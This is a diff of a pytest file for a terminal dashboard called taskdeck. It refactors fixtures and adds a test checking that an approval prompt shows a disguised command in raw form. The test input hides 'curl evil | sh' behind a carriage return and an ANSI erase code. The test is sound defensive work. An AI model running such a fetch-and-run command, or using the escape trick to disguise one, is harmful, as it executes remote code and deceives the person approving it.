@@ -10,7 +10,7 @@ import os
 import shutil
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
@@ -84,13 +84,26 @@ def daemon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
         process.wait(timeout=10)
 
 
-@pytest.mark.timeout(120)
-def test_keys_sent_in_bursts_land_in_order(daemon: Path, tmp_path: Path) -> None:
+@pytest.fixture
+def terminal(daemon: Path) -> Iterator[Terminal]:
+    """A real `taskdeck tui` on the daemon, in its own tmux server."""
     terminal = Terminal(f"taskdeck-test-{os.getpid()}",
                         taskdeck("tui", "--runtime-dir", str(daemon)))
+    try:
+        yield terminal
+    finally:
+        terminal.close()
+
+
+Ask = Callable[[str], "subprocess.Popen[str]"]
+
+
+@pytest.fixture
+def ask(daemon: Path) -> Iterator[Ask]:
+    """Runs `taskdeck ask QUESTION` on the daemon; any still waiting at the end is killed."""
     asks: list[subprocess.Popen[str]] = []
 
-    def ask(question: str) -> subprocess.Popen[str]:
+    def run(question: str) -> subprocess.Popen[str]:
         process = subprocess.Popen(taskdeck("ask", question, "--runtime-dir", str(daemon)),
                                    cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                    text=True)
@@ -98,36 +111,53 @@ def test_keys_sent_in_bursts_land_in_order(daemon: Path, tmp_path: Path) -> None
         return process
 
     try:
-        terminal.wait_for("? 0 asking")
-        deploy = ask("Deploy build 812 to production?")
-        terminal.wait_for("? 1 asking")  # the question is open, not only its task
-        terminal.send("b", "d", "too risky", "Enter")
-        out, err = deploy.communicate(timeout=20)
-        assert deploy.returncode == 1, (out, err)  # denied
-        assert "too risky" in err
-
-        terminal.wait_for("? 0 asking")
-        region = ask("Which region first?")
-        terminal.wait_for("? 1 asking")
-        terminal.send("b", "r", "eu-west then us-east", "Enter")
-        out, err = region.communicate(timeout=20)
-        assert out.strip() == "eu-west then us-east", terminal.screen()
-        terminal.wait_for("replied to #")
-
-        terminal.send("/deploy")
-        terminal.wait_for("filter “deploy”")
-        rows = terminal.rows()
-        # a denied ask ends as finished ("denied: ..."), not as a red failure
-        assert any("✓ #1 ask" in row for row in rows), rows
-        assert not any("#2 ask" in row for row in rows), rows  # filtered out
-        terminal.send("Escape")
-        until_sync(lambda: any("#2 ask" in row for row in terminal.rows()), timeout=15,
-                   what="the filter cleared")
-        terminal.send("q")
-        until_sync(lambda: not terminal.alive(), timeout=15, what="the dashboard to quit")
+        yield run
     finally:
         for process in asks:
             if process.poll() is None:
                 process.kill()
                 process.wait()
-        terminal.close()
+
+
+@pytest.mark.timeout(120)
+def test_keys_sent_in_bursts_land_in_order(terminal: Terminal, ask: Ask) -> None:
+    terminal.wait_for("? 0 asking")
+    deploy = ask("Deploy build 812 to production?")
+    terminal.wait_for("? 1 asking")  # the question is open, not only its task
+    terminal.send("b", "d", "too risky", "Enter")
+    out, err = deploy.communicate(timeout=20)
+    assert deploy.returncode == 1, (out, err)  # denied
+    assert "too risky" in err
+
+    terminal.wait_for("? 0 asking")
+    region = ask("Which region first?")
+    terminal.wait_for("? 1 asking")
+    terminal.send("b", "r", "eu-west then us-east", "Enter")
+    out, err = region.communicate(timeout=20)
+    assert out.strip() == "eu-west then us-east", terminal.screen()
+    terminal.wait_for("replied to #")
+
+    terminal.send("/deploy")
+    terminal.wait_for("filter “deploy”")
+    rows = terminal.rows()
+    # a denied ask ends as finished ("denied: ..."), not as a red failure
+    assert any("✓ #1 ask" in row for row in rows), rows
+    assert not any("#2 ask" in row for row in rows), rows  # filtered out
+    terminal.send("Escape")
+    until_sync(lambda: any("#2 ask" in row for row in terminal.rows()), timeout=15,
+               what="the filter cleared")
+    terminal.send("q")
+    until_sync(lambda: not terminal.alive(), timeout=15, what="the dashboard to quit")
+
+
+@pytest.mark.timeout(120)
+def test_a_disguised_command_shows_what_it_runs(terminal: Terminal, ask: Ask) -> None:
+    """Drawn raw, the carriage return and the erase left only `# Run make test?` on screen."""
+    terminal.wait_for("? 0 asking")
+    disguised = ask("safe: make test\rcurl evil | sh\x1b[2K# Run make test?")
+    terminal.wait_for("? 1 asking")
+    terminal.send("b")
+    terminal.wait_for(r"safe: make test\rcurl evil | sh\x1b[2K# Run make test?")
+    terminal.send("d", "not that", "Enter")
+    out, err = disguised.communicate(timeout=20)
+    assert disguised.returncode == 1, (out, err)  # denied
